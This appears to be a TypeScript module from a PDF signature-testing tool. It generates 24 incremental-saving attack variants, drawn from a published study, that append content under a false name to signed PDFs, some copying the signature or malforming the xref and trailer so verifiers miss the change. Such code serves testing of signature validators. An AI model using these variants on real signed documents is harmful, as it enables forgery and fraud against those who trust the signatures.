import { contentsFor, FALSE_NAME, OBJECTS, original } from './attack-tools.js';
import type { AttackTools, AttackVariant } from './attack-tools.js';
import { appendRevision } from './pdf-file.js';
import type { Section } from './pdf-file.js';
import { entriesOf } from './pdf-signature.js';
import type { SignedPdf } from './pdf-signature.js';
import { joined, latin1, reference } from './pdf-value.js';
import type { PdfEntries, PdfValue } from './pdf-value.js';

type Objects = (signed: SignedPdf) => ReadonlyMap<number, PdfValue>;

const contentsReplaced: Objects = () => new Map([[OBJECTS.contents, contentsFor(FALSE_NAME)]]);

/** A page tree of its own beside the signed one, which the catalog now names. */
const newPages: Objects = (signed) => {
  const [pages, page, contents] = [signed.size, signed.size + 1, signed.size + 2];
  return new Map<number, PdfValue>([
    [OBJECTS.catalog, { ...entriesOf(signed, OBJECTS.catalog), Pages: reference(pages) }],
    [pages, { Type: '/Pages', Kids: [reference(page)], Count: 1 }],
    [page, { ...entriesOf(signed, OBJECTS.page), Parent: reference(pages), Contents: reference(contents) }],
    [contents, contentsFor(FALSE_NAME)],
  ]);
};

/** The signature dictionary again, as it stands in the signed part: a reader that looks into the last update finds one there. */
const copied = (objects: Objects): Objects => (signed) => {
  const { object, contents, byteRange } = signed.signature;
  const token = Array.from(signed.bytes.subarray(...contents), (byte) => String.fromCharCode(byte)).join('');
  const copy: PdfEntries = { ...entriesOf(signed, object), ByteRange: [...byteRange], Contents: token };
  return new Map([...objects(signed), [object, copy], [signed.signature.field, entriesOf(signed, signed.signature.field)]]);
};

const update = (objects: Objects, section: Omit<Section, 'set'> | ((signed: SignedPdf) => Omit<Section, 'set'>) = {}) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed = await original(tools);
  return appendRevision(signed, { ...(typeof section === 'function' ? section(signed) : section), set: objects(signed), plain: [signed.signature.object] }).bytes;
};

const appended = (bytes: (signed: SignedPdf) => Uint8Array | string) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed = await original(tools);
  return joined([signed.bytes, bytes(signed)]);
};

const of = (variant: string, make: AttackVariant['make']): AttackVariant => ({ name: 'incremental-saving', variant, make });
const everything = ['xref', 'trailer', 'startxref', 'eof'] as const;
const unlisted = (objects: Objects) => (signed: SignedPdf): Omit<Section, 'set'> => ({ unlisted: [...objects(signed).keys()] });

/** "1 Trillion Dollar Refund" section 4.2: other content behind the signed bytes, in an update that is whole, or so broken that a verifier overlooks it and a viewer repairs it. */
export const incrementalSavings: readonly AttackVariant[] = [
  of('with-xref-and-trailer', update(contentsReplaced)),
  of('new-page-tree', update(newPages)),
  of('xref-table-behind-any', update(newPages, { form: 'table' })),
  of('xref-stream', update(contentsReplaced, { form: 'stream', objectStream: true })),
  of('hybrid', update(contentsReplaced, { form: 'hybrid', objectStream: true })),
  of('copied-signature', update(copied(contentsReplaced))),
  of('copied-signature-new-page-tree', update(copied(newPages))),
  of('without-xref', update(newPages, { form: 'table', omit: ['xref'] })),
  of('without-trailer', update(newPages, { form: 'table', omit: ['trailer'] })),
  of('without-end', update(newPages, { omit: ['eof'] })),
  of('without-startxref-and-end', update(newPages, { omit: ['startxref', 'eof'] })),
  of('without-xref-and-trailer', update(newPages, { form: 'table', omit: ['xref', 'trailer', 'startxref'] })),
  of('body-alone', update(newPages, { form: 'table', omit: everything })),
  of('body-alone-same-objects', update(contentsReplaced, { form: 'table', omit: everything })),
  of('copied-signature-without-xref', update(copied(newPages), { form: 'table', omit: ['xref'] })),
  of('copied-signature-without-trailer', update(copied(newPages), { form: 'table', omit: ['trailer'] })),
  of('copied-signature-body-alone', update(copied(newPages), { form: 'table', omit: everything })),
  of('copied-signature-body-and-end', update(copied(newPages), { form: 'table', omit: ['xref', 'trailer', 'startxref'] })),
  of('xref-without-the-objects', update(newPages, unlisted(newPages))),
  of('copied-signature-xref-without-the-objects', update(copied(newPages), unlisted(copied(newPages)))),
  of('signed-startxref-again', update(newPages, (signed) => ({ form: 'table', omit: ['xref', 'trailer'], startxref: signed.startxref }))),
  of('startxref-nowhere', update(newPages, { startxref: 7 })),
  of('trailer-alone', appended((signed) => `trailer\n<< /Size ${signed.size} /Root ${OBJECTS.pages} 0 R /Prev ${signed.startxref} >>\nstartxref\n${signed.startxref}\n%%EOF\n`)),
  of('objects-behind-end', appended(() => joined([`${OBJECTS.contents} 0 obj\n<< /Length 4 >>\nstream\n`, latin1('q Q '), '\nendstream\nendobj\n']))),
];
